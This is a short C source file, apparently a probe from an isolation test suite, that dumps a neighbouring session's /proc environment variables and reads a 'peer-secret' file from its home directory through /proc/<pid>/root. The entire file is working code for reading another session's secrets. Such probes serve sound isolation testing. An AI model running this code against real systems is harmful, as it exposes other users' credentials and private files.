/* peer-environ (C): the session next door keeps its secret in its
 * environment and its home; /proc shows both to whoever can see its pids. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "proc.h"
#include "targets.h"

#define MAX_PIDS 256

/* Prints /proc/|pid|/environ and the peer-secret file of its HOME. */
static void dump(long pid)
{
	char path[1200], buf[65536], home[1024] = "";
	size_t n;
	FILE *f;

	snprintf(path, sizeof(path), "/proc/%ld/environ", pid);
	if (!(f = fopen(path, "r")))
		return;
	n = fread(buf, 1, sizeof(buf) - 1, f);
	fclose(f);
	buf[n] = '\0';
	printf("== %ld\n", pid);
	for (char *e = buf; e < buf + n; e += strlen(e) + 1) {
		puts(e);
		if (!strncmp(e, "HOME=", 5))
			snprintf(home, sizeof(home), "%s", e + 5);
	}
	snprintf(path, sizeof(path), "/proc/%ld/root%s/peer-secret", pid, home);
	if (home[0] && (f = fopen(path, "r"))) {
		n = fread(buf, 1, sizeof(buf) - 1, f);
		buf[n] = '\0';
		printf("%s\n", buf);
		fclose(f);
	}
}

int main(int argc, char **argv)
{
	long pids[MAX_PIDS];
	int n;

	targets_load(argc, argv);
	n = proc_tree(atol(target("T_PEER_PID")), pids, MAX_PIDS);
	for (int i = 0; i < n; i++)
		dump(pids[i]);
	return 0;
}
